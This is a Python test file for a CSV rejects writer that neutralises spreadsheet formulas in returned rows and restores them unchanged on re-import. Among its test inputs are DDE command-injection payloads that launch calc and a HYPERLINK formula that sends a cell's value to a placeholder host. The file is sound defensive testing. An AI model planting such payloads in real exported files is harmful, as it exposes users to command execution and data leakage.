"""Rows given back: no cell is a formula, and each comes in again as it was."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from homeward.sources.reading.reason import Reason
from homeward.sources.reading.rejects import neutral, restored, write_rejects
from homeward.sources.reading.table import Accepted, Rejected, read_table

HEADER = ("CHILD", "DOB", "MISSING", "MIS_START", "MIS_END")
STARTS = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
CELL = st.text(
    st.one_of(st.sampled_from("=+-@'\t\r\n \ufeff\""), st.characters(exclude_categories=["Cs"])),
    max_size=8,
).map(lambda text: text.replace("\x00", ""))


def given_back(rows: list[tuple[str, ...]]) -> bytes:
    """Return the file in which these rows of missing.csv are given back."""
    out = io.StringIO(newline="")
    reason = Reason("1004", "It is not a date.", "MIS_START")
    rejected = [Rejected(n, cells, (reason,)) for n, cells in enumerate(rows, start=2)]
    write_rejects(header=HEADER, rows=rejected, out=out)
    return out.getvalue().encode("utf-8-sig")


@pytest.mark.parametrize(
    "cell",
    [
        "=10+20+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "=         cmd|'/c calc.exe'!A",
        '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
        "+1+1",
        "-1+1",
        "\t=1+1",
        "\ufeff=1+1",
        "\uff1d1+1",
        "  =1+1",
        "\r=1",
        "'=1+1",
    ],
)
def test_cell_is_neutral_and_comes_back_when_it_is_a_formula(cell: str) -> None:
    safe = neutral(cell)

    assert safe == "'" + cell
    assert restored(safe) == cell


@pytest.mark.parametrize("cell", ["", "O'Hara", "'t Hooft", "31/01/2024", "DDE (x)", "'"])
def test_cell_is_left_alone_when_it_is_harmless(cell: str) -> None:
    assert neutral(cell) == cell
    assert restored(cell) == cell


@given(CELL)
def test_cell_comes_back_when_it_is_anything(cell: str) -> None:
    safe = neutral(cell)

    assert restored(safe) == cell
    assert not safe.lstrip(" \xa0\ufeff\u200b\u200c\u200d\u2060").startswith(STARTS)


@given(st.lists(st.lists(CELL, min_size=1, max_size=7).map(tuple), max_size=6))
def test_rows_come_in_as_they_were_when_given_back_unmended(rows: list[tuple[str, ...]]) -> None:
    file = given_back(rows)

    with read_table(name="rejects.csv", source=file) as reading:
        again = [outcome.cells for outcome in reading]

    assert reading.is_mended
    assert reading.header == HEADER
    assert again == rows


def test_row_is_accepted_when_it_is_mended_in_the_file_given_back() -> None:
    first = b"CHILD,DOB,MISSING,MIS_START,MIS_END\n7,01/02/2010,M,31/02/2024,\n"
    with read_table(name="missing.csv", source=first) as reading:
        out = io.StringIO(newline="")
        rejected = [o for o in reading if isinstance(o, Rejected)]
        count = write_rejects(header=reading.header, rows=rejected, out=out)

    mended = out.getvalue().replace(
        '7","01/02/2010","M","31/02/2024', '7","01/02/2010","M","29/02/2024'
    )
    outcomes = list(read_table(name="mended.csv", source=mended.encode("utf-8-sig")))

    assert count == 1
    assert [type(outcome) for outcome in outcomes] == [Accepted]


def test_file_given_back_names_line_and_reason_when_opened() -> None:
    table = list(csv.reader(io.StringIO(given_back([("7", "x")]).decode("utf-8-sig"))))

    assert table == [
        ["line", "reason", *HEADER],
        ["2", "MIS_START: It is not a date.", "7", "x"],
    ]


def test_file_given_back_can_be_written_when_a_row_was_damaged() -> None:
    file = given_back([("7\x00", "Zo\udcff")])

    assert "7\u2400" in file.decode("utf-8-sig")
    assert "Zo\ufffd" in file.decode("utf-8-sig")
